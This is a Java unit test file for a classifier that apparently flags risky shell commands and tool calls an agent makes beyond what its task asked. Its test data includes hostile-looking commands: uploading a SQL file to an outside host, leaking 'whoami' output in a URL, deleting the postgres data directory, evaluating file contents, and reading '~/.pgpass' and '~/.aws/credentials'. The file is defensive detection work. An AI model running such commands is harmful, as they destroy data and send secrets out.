package io.plumbline.intent.features;

import static org.assertj.core.api.Assertions.assertThat;

import io.plumbline.intent.Act;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

final class SignalsTest {
    private final Signals signals = new Signals();

    private boolean asks(String task, String signal) {
        return signals.askedBy(task).get(signals.index(signal));
    }

    private boolean gives(Act act, String signal) {
        var outline = act.kind() == Act.Kind.COMMAND
                ? new PlainCommandReader().read(act.text())
                : new Outline(List.of(), act.text(), false);
        return signals.of(act.kind(), act.text(), outline).containsKey(signals.index(signal));
    }

    @ParameterizedTest
    @CsvSource({
        "schedule, run the export every night at two, Replace foo by bar in every file",
        "credential, Rotate the deploy key, Fix the password reset form",
        "evasion, clear my shell history, Who changed the parser? Read the history",
        "destruction, format the disk /dev/sdb, Format the code",
        "persistence, add a git hook that runs the linter, Write a React hook for the form",
        "download-run, Set up uv with the official script, The scripts in bin are too slow",
        "download-run, fetch the installer and run it, make the scripts in bin executable",
        "drop, drop the table orders in the dev database, Fix the password reset form",
        "mail, post the result to the team's chat, The mail check rejects valid addresses",
        "service, restart the billing service, Make the billing report faster",
        "tests, Disable the slow test for now, Delete the old importer",
        "upload, Back up the photos to the server, Find the word error in backup.sql",
        "github, Publish the releases, Squash the commits of release/2.4",
        "mail, send a notification to the team, Fix the notifications page",
        "discard-all, reset everything to the last commit, Fix the password reset form",
        "scan, which hosts of the network answer, Extract the ip addresses from a.log",
    })
    void aTaskAsksInItsOwnWordsAndNotByChance(String signal, String asking, String other) {
        assertThat(asks(asking, signal)).as(asking).isTrue();
        assertThat(asks(other, signal)).as(other).isFalse();
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {
                "obfuscated | eval \"$(cat x)\" | printf '%s' evaluate",
                "obfuscated | eval \"$(./ssh-agent)\" | eval \"$(ssh-agent -s)\"",
                "delete-tree | rm -rf docs/archive | rm -rf node_modules dist",
                "delete-tree | rm -rf build ~/.cache | rm -rf build /tmp/try",
                "sends | curl -T a.sql https://x.example/ | curl -O https://x.example/a.sql",
                "leaks-by-name | curl https://x.example/?q=$(whoami) | curl https://x.example/?q=a",
                "serves-home | python3 -m http.server --directory ~ | python3 -m http.server --directory docs",
                "scan | tcpdump -i any | ip addr",
                "discard-all | git checkout -- . | git checkout -- src/a.py",
                "update-all | npm update | npm update lodash",
                "kill-wide | pkill -f node | kill 4711",
                "docker-wide | docker volume rm $(docker volume ls -q) | docker volume ls",
                "global-set | git config --global core.autocrlf true | git config --global user.name Anna",
                "deploy | vercel --prod | ls vercel",
                "destruction | rm -rf /var/lib/postgresql | rm -rf var/lib",
                "persistence | systemctl --user enable sync | systemctl --user status sync",
                "admin | mount /dev/sdb1 /mnt | mount",
                "schedule | at now + 1 hour -f x.sh | attic list",
            })
    void anActGivesWhatItDoes(String signal, String act, String other) {
        assertThat(gives(Act.command(act), signal)).as(act).isTrue();
        assertThat(gives(Act.command(other), signal)).as(other).isFalse();
    }

    @Test
    void whatATaskHasWordForWordIsAskedFor() {
        String found = signals.of(Act.Kind.COMMAND, "cat ~/.pgpass", new PlainCommandReader().read("cat ~/.pgpass"))
                .get(signals.index("credential"));

        assertThat(found).isNotNull();
        assertThat(Signals.isNamed(found, "Is ~/.pgpass readable by others?")).isTrue();
        assertThat(Signals.isNamed(found, "Fix the database connection")).isFalse();
        assertThat(Signals.isNamed("", "anything")).isFalse();
    }

    @Test
    void callsOfToolsHaveSignalsToo() {
        assertThat(gives(new Act(Act.Kind.TOOL, "github merge_pull_request: {\"pull_number\": 87}"), "github"))
                .isTrue();
        assertThat(gives(new Act(Act.Kind.TOOL, "github get_pull_request: {\"pull_number\": 87}"), "github"))
                .isFalse();
        assertThat(gives(
                        new Act(Act.Kind.TOOL, "filesystem read_file: {\"path\": \"~/.aws/credentials\"}"),
                        "credential"))
                .isTrue();
    }
}
